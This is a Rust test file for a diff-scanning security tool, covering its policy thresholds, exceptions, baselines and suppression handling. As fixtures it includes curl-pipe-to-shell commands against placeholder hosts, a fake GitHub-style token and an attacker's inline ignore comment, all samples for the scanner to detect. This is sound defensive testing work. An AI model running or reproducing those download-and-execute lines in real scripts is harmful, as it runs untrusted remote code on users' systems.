//! Policy features, each suppression kind, and the decision.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use diffver_core::policy::{Action, Policy, PolicyError};
use diffver_core::rules::Ruleset;
use diffver_core::suppress::{Baseline, Timestamp};
use diffver_core::verdict::{Decision, Evaluated, Inputs, ScanContext, Verdict, evaluate};

fn add(path: &str, text: &str) -> Vec<u8> {
    let lines: Vec<&str> = text.split('\n').collect();
    let mut d = format!(
        "diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{} @@\n",
        lines.len()
    );
    for l in lines {
        d.push('+');
        d.push_str(l);
        d.push('\n');
    }
    d.into_bytes()
}

/// The signed payload of a verdict, as the development signer makes it.
fn payload(v: &Verdict) -> Vec<u8> {
    use diffver_core::artifact::Signer as _;
    let signer = diffver_core::artifact::HmacSigner::deterministic(
        diffver_core::artifact::SigningMode::Development,
    )
    .unwrap();
    diffver_core::artifact::payload(v, &signer.identity()).unwrap()
}

fn ctx() -> ScanContext {
    ScanContext::new(
        "t",
        Timestamp::parse_rfc3339("2026-11-29T09:00:00Z").unwrap(),
    )
    .unwrap()
}

fn run(diff: &[u8], policy: &Policy, baseline: Option<&Baseline>) -> Verdict {
    let rules = diffver_core::verdict::ruleset_for(policy).unwrap();
    let c = ctx();
    let mut i = Inputs::new(diff, &rules, policy, &c);
    i.baseline = baseline;
    evaluate(&i)
}

fn policy(extra: &str) -> Policy {
    Policy::from_toml(
        &format!("schema = \"diffver.policy/v1\"\nid = \"t\"\n{extra}"),
        "t.toml",
    )
    .unwrap()
}

fn of<'v>(v: &'v Verdict, rule: &str) -> Vec<&'v Evaluated> {
    v.findings()
        .iter()
        .filter(|e| e.finding.rule_id() == rule)
        .collect()
}

const PIPE: &str = "curl -s https://x.example/i.sh | sh";

#[test]
fn threshold_category_rule_and_path_overrides() {
    let d = add("tools/install.sh", PIPE); // exec.download-pipe-shell, high
    assert_eq!(
        run(&d, &policy("block_at = \"high\""), None).decision(),
        Decision::Fail
    );
    assert_eq!(
        run(&d, &policy("block_at = \"critical\""), None).decision(),
        Decision::Pass
    );
    let p = policy("block_at = \"critical\"\n[categories]\ncode-exec = \"block\"");
    assert_eq!(run(&d, &p, None).decision(), Decision::Fail);
    let p = policy("[rules]\n\"exec.download-pipe-shell\" = \"off\"");
    let v = run(&d, &p, None);
    assert_eq!(v.decision(), Decision::Pass);
    assert_eq!(
        of(&v, "exec.download-pipe-shell")[0].action,
        Action::Off,
        "off findings stay listed"
    );
    // Quieter on fixtures, stricter on workflows.
    let p = policy(
        "[[override]]\npaths = [\"tests/fixtures/**\"]\nblock_at = \"critical\"\n[[override]]\npaths = [\".github/workflows/**\"]\nblock_at = \"low\"",
    );
    assert_eq!(
        run(&add("tests/fixtures/a.sh", PIPE), &p, None).decision(),
        Decision::Pass
    );
    assert_eq!(
        run(&add("tools/a.sh", PIPE), &p, None).decision(),
        Decision::Fail
    );
    let unpinned = add(
        ".github/workflows/ci.yml",
        "      - uses: tj-actions/changed-files@v45",
    );
    assert_eq!(
        run(&unpinned, &policy(""), None).decision(),
        Decision::Pass,
        "low severity warns by default"
    );
    assert_eq!(
        run(&unpinned, &p, None).decision(),
        Decision::Fail,
        "but blocks in workflows here"
    );
}

#[test]
fn opaque_content_action() {
    let bin = b"diff --git a/logo.png b/logo.png\nindex 1111111..2222222 100644\nBinary files a/logo.png and b/logo.png differ\n";
    assert_eq!(
        run(bin, &policy("opaque = \"warn\""), None).decision(),
        Decision::Pass
    );
    assert_eq!(
        run(bin, &policy("opaque = \"block\""), None).decision(),
        Decision::Fail
    );
}

#[test]
fn limits_and_fail_open_or_closed() {
    let d = add("a.txt", &"x".repeat(2000));
    let closed = run(
        &d,
        &policy("on_error = \"fail_closed\"\n[limits]\nmax_diff_bytes = 1000"),
        None,
    );
    assert_eq!(closed.decision(), Decision::Error);
    assert!(closed.blocks());
    assert!(closed.error().unwrap().contains("input size"));
    let open = run(
        &d,
        &policy("on_error = \"fail_open\"\n[limits]\nmax_diff_bytes = 1000"),
        None,
    );
    assert_eq!(open.decision(), Decision::Error);
    // Issue 11: a limit the input breaks is the submitter's doing, so it
    // blocks even under fail-open; only internal faults follow `on_error`.
    assert!(open.blocks());
    let p = policy("on_error = \"fail_open\"");
    let rules = diffver_core::verdict::ruleset_for(&p).unwrap();
    let c = ctx();
    let fault = diffver_core::verdict::internal_error(
        &Inputs::new(&d, &rules, &p, &c),
        "storage unavailable",
    );
    assert_eq!(fault.decision(), Decision::Error);
    assert!(!fault.blocks());
    // A fault on a diff whose bytes are gone names the diff by its recorded digest.
    let digest = "ab".repeat(32);
    let about = diffver_core::verdict::internal_error_for(
        &Inputs::new(&[], &rules, &p, &c),
        &digest.to_uppercase(),
        4096,
        "the stored diff is unreachable",
    );
    assert_eq!(
        (about.diff().sha256.as_str(), about.diff().bytes),
        (digest.as_str(), 4096)
    );
    let ignored = diffver_core::verdict::internal_error_for(
        &Inputs::new(&[], &rules, &p, &c),
        "not-a-digest",
        4096,
        "x",
    );
    assert_eq!(ignored.diff().bytes, 0);
    let files = [add("a.txt", "a"), add("b.txt", "b")].concat();
    assert_eq!(
        run(&files, &policy("[limits]\nmax_files = 1"), None).decision(),
        Decision::Error
    );
}

#[test]
fn invalid_policies_get_precise_errors() {
    let bad = |src: &str| Policy::from_toml(src, "p.toml").unwrap_err();
    let e = bad("schema = \"diffver.policy/v1\"\nid = \"x\"\nblock_at = \"severe\"");
    assert!(
        matches!(&e, PolicyError::Invalid { field, .. } if field == "block_at"),
        "{e}"
    );
    let e = bad("schema = \"diffver.policy/v1\"\nid = \"x\"\n[categories]\nnope = \"block\"");
    assert!(
        matches!(&e, PolicyError::Invalid { field, .. } if field == "categories"),
        "{e}"
    );
    let e = bad("schema = \"diffver.policy/v1\"\nid = \"x\"\n[rules]\n\"a.b\" = \"maybe\"");
    assert!(matches!(e, PolicyError::Syntax { .. }), "{e}");
    let e = bad(
        "schema = \"diffver.policy/v1\"\nid = \"x\"\n[[exception]]\nrule = \"a.b\"\nreason = \"r\"\nauthor = \"a\"\nexpires_at = \"soon\"",
    );
    assert!(
        matches!(&e, PolicyError::Invalid { field, .. } if field == "exception[0]"),
        "{e}"
    );
    let e = bad("schema = \"diffver.policy/v2\"\nid = \"x\"");
    assert!(
        matches!(&e, PolicyError::Invalid { field, .. } if field == "schema"),
        "{e}"
    );
    let e = bad("schema = \"diffver.policy/v1\"\nid = \"x\"\nextends = \"lax\"");
    assert!(
        matches!(&e, PolicyError::Invalid { field, .. } if field == "extends"),
        "{e}"
    );
    let e = bad("schema = \"diffver.policy/v1\"\nid = \"x\"\nrules_toml = \"schema = 1\"");
    assert!(
        matches!(&e, PolicyError::Invalid { field, .. } if field == "rules_toml"),
        "{e}"
    );
    assert!(matches!(
        Policy::builtin("lax"),
        Err(PolicyError::UnknownBuiltin { .. })
    ));
}

#[test]
fn canonical_hash_is_stable_and_sensitive() {
    let a = policy("block_at = \"high\"\n[rules]\n\"x.y\" = \"off\"\n\"a.b\" = \"warn\"");
    let b = policy("block_at    =   \"high\"\n\n[rules]\n\"a.b\" = \"warn\"\n\"x.y\" = \"off\"\n");
    assert_eq!(
        a.hash(),
        b.hash(),
        "formatting and key order do not change the hash"
    );
    let json = Policy::from_json(r#"{"schema":"diffver.policy/v1","id":"t","block_at":"high","rules":{"x.y":"off","a.b":"warn"}}"#, "p.json").unwrap();
    assert_eq!(a.hash(), json.hash(), "TOML and JSON forms hash the same");
    assert_ne!(a.hash(), policy("block_at = \"medium\"").hash());
    for name in Policy::BUILTIN {
        let p = Policy::builtin(name).unwrap();
        assert_eq!(p.hash().len(), 64);
    }
    assert_eq!(
        run(b"", &a, None).policy().2,
        a.hash(),
        "the hash goes into every result"
    );
}

#[test]
fn exceptions_by_rule_fingerprint_path_and_expiry() {
    let d = add("tools/install.sh", PIPE);
    let fp = run(&d, &policy(""), None).findings()[0]
        .finding
        .fingerprint()
        .to_owned();
    let exc = |body: &str| {
        policy(&format!(
            "[[exception]]\n{body}\nreason = \"vendored installer\"\nauthor = \"sec@example.com\""
        ))
    };
    for body in [
        "rule = \"exec.download-pipe-shell\"".to_owned(),
        format!("fingerprint = \"{fp}\""),
        "paths = [\"tools/**\"]".to_owned(),
        format!(
            "rule = \"exec.download-pipe-shell\"\npaths = [\"tools/*.sh\"]\nfingerprint = \"{fp}\""
        ),
    ] {
        let v = run(&d, &exc(&body), None);
        assert_eq!(v.decision(), Decision::Pass, "{body}");
        let e = &of(&v, "exec.download-pipe-shell")[0];
        assert_eq!(
            e.suppression.as_ref().unwrap().kind(),
            "exception",
            "suppressed findings stay in the result"
        );
    }
    // A non-matching combination does not apply.
    let v = run(
        &d,
        &exc("rule = \"exec.download-pipe-shell\"\npaths = [\"docs/**\"]"),
        None,
    );
    assert_eq!(v.decision(), Decision::Fail);
    // An expired exception stops applying and is reported.
    let v = run(
        &d,
        &exc("rule = \"exec.download-pipe-shell\"\nexpires_at = \"2026-01-01T00:00:00Z\""),
        None,
    );
    assert_eq!(v.decision(), Decision::Fail);
    assert_eq!(v.expired_exceptions().len(), 1);
    assert!(v.expired_exceptions()[0].contains("expired 2026-01-01T00:00:00Z"));
    let v = run(
        &d,
        &exc("rule = \"exec.download-pipe-shell\"\nexpires_at = \"2027-01-01T00:00:00Z\""),
        None,
    );
    assert_eq!(v.decision(), Decision::Pass);
}

#[test]
fn baseline_survives_unrelated_moves_and_does_not_churn() {
    let p = policy("");
    let before = add("tools/install.sh", &format!("#!/bin/sh\n{PIPE}"));
    let v = run(&before, &p, None);
    assert_eq!(v.decision(), Decision::Fail);
    let baseline = Baseline::from_findings(v.findings().iter().map(|e| &e.finding));
    // Unrelated lines added above: the finding moves, the fingerprint does not.
    let after = add(
        "tools/install.sh",
        &format!("#!/bin/sh\nset -eu\n# install the tool\nexport X=1\n{PIPE}"),
    );
    let v2 = run(&after, &p, Some(&baseline));
    assert_eq!(v2.decision(), Decision::Pass);
    let e = &of(&v2, "exec.download-pipe-shell")[0];
    assert_eq!(e.suppression.as_ref().unwrap().kind(), "baseline");
    assert_ne!(
        e.finding.location().line,
        of(&v, "exec.download-pipe-shell")[0]
            .finding
            .location()
            .line
    );
    // A new occurrence is not covered.
    let more = add(
        "tools/install.sh",
        &format!("#!/bin/sh\n{PIPE}\ncurl https://y.example/j | bash"),
    );
    assert_eq!(run(&more, &p, Some(&baseline)).decision(), Decision::Fail);
    // The file is stable: no timestamps, no lines, sorted; round-trips.
    let json = baseline.to_json();
    let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
    for entry in parsed["findings"].as_array().unwrap() {
        let keys: Vec<&String> = entry.as_object().unwrap().keys().collect();
        assert_eq!(
            keys,
            ["fingerprint", "rule"],
            "only content-based fields: {json}"
        );
    }
    let again = Baseline::from_findings(v2.findings().iter().map(|e| &e.finding));
    assert_eq!(
        again.to_json(),
        json,
        "regenerating after lines moved does not churn"
    );
    assert_eq!(Baseline::from_json(&json).unwrap(), baseline);
    assert!(Baseline::from_json("{\"schema\":\"x\",\"findings\":[]}").is_err());
}

#[test]
fn inline_ignore_comments_are_reported_not_obeyed() {
    let d = add(
        "tools/install.sh",
        &format!("{PIPE}  # diffver-ignore: exec.download-pipe-shell"),
    );
    let v = run(&d, &policy(""), None);
    assert_eq!(
        v.decision(),
        Decision::Fail,
        "an attacker's ignore comment is not obeyed"
    );
    assert!(of(&v, "exec.download-pipe-shell")[0].suppression.is_none());
    assert_eq!(
        of(&v, "meta.inline-suppression").len(),
        1,
        "the comment itself is reported"
    );
    // A policy may opt in per rule.
    let opted = policy("inline_ignores = [\"exec.download-pipe-shell\"]");
    let v = run(&d, &opted, None);
    assert_eq!(
        of(&v, "exec.download-pipe-shell")[0]
            .suppression
            .as_ref()
            .unwrap()
            .kind(),
        "inline-comment"
    );
    assert_eq!(v.decision(), Decision::Pass);
    // Other scanners' comments are reported too.
    let g = run(
        &add("a.py", "token = 'x'  # gitleaks:allow"),
        &policy(""),
        None,
    );
    assert_eq!(of(&g, "meta.inline-suppression").len(), 1);
}

#[test]
fn decision_is_a_pure_function() {
    let d = add("tools/install.sh", PIPE);
    let p = Policy::builtin("strict").unwrap();
    let a = payload(&run(&d, &p, None));
    let b = payload(&run(&d, &p, None));
    assert_eq!(a, b);
    assert_eq!(Ruleset::builtin().hash(), Ruleset::builtin().hash());
}

#[test]
fn findings_are_capped_and_the_cap_is_reported() {
    // Every line carries a control character: more findings than a scan lists.
    let n = diffver_core::finding::MAX_FINDINGS + 10;
    let body: String = (0..n).map(|_| "+\u{1}\n").collect();
    let d = format!("--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1,{n} @@\n{body}");
    let v = run(d.as_bytes(), &policy(""), None);
    assert_eq!(v.findings().len(), diffver_core::finding::MAX_FINDINGS + 1);
    let t = of(&v, "meta.findings-truncated");
    assert_eq!(t.len(), 1);
    assert!(
        t[0].is_blocking(),
        "a truncated result never passes silently"
    );
    assert_eq!(v.decision(), Decision::Fail);
}

#[test]
fn threads_do_not_change_the_result() {
    let files: Vec<Vec<u8>> = (0..12)
        .map(|i| {
            add(
                &format!("dir{i}/run.sh"),
                &format!("echo {i}\n{PIPE}\ntoken = \"ghp_8f3K2mQz9XcV7bN1aL4pR6tY0uW5eH2jD3sG\""),
            )
        })
        .collect();
    let d = files.concat();
    let p = policy("");
    let rules = diffver_core::verdict::ruleset_for(&p).unwrap();
    let c = ctx();
    let mut one = Inputs::new(&d, &rules, &p, &c);
    one.threads = 1;
    let mut four = one;
    four.threads = 4;
    let a = payload(&evaluate(&one));
    let b = payload(&evaluate(&four));
    assert_eq!(a, b);
}
